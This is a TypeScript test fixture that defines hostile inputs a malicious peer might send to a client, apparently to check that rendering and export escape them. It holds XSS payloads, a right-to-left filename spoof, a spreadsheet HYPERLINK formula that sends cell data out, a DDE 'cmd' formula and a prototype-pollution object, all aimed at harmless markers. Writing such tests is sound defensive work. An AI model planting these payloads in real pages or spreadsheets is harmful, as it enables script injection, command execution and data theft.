/**
 * Peers that mean harm: every text they can send that a page, a spreadsheet or a reader's eye could take for
 * something else. Each would leave a mark if it worked: `window.struck`, a dialog, a request, a window.
 */
import type { Script } from './scriptedServer.ts';

const STRIKE = 'window.struck=true';

export const HOSTILE = {
  /** As the client's name. */
  client: `<script>${STRIKE}</script><img src=x onerror="${STRIKE}">`,
  /** Tools: markup, a link that runs, text that turns around, a formula, a name of 2,000 characters, control characters. */
  tools: {
    markup: `<img src=x onerror="${STRIKE}">`,
    link: `javascript:${STRIKE}`,
    /** Shown as it is it would read `safe_exe.txt`. */
    turned: 'safe_\u202etxt.exe',
    formula: `=HYPERLINK("http://127.0.0.1:9/?"&A1,"pay")`,
    long: `long_${'n'.repeat(2_000)}`,
    control: 'bell\u0007back\u0008null\u0000zero\u200bwidth',
  },
  error: `</td></table><script>${STRIKE}</script><a href="javascript:${STRIKE}">retry</a> =cmd|'/c calc'!A1`,
  body: `<iframe src="javascript:${STRIKE}"></iframe> https://example.invalid/leak {"__proto__":{"struck":true}}`,
} as const;

/** Answers every tool with an error full of markup. */
export const HOSTILE_SCRIPT: Script = Object.fromEntries(
  Object.values(HOSTILE.tools).map((tool) => [
    tool,
    [{ text: HOSTILE.error, isError: true as const, logs: [HOSTILE.body] }],
  ]),
);
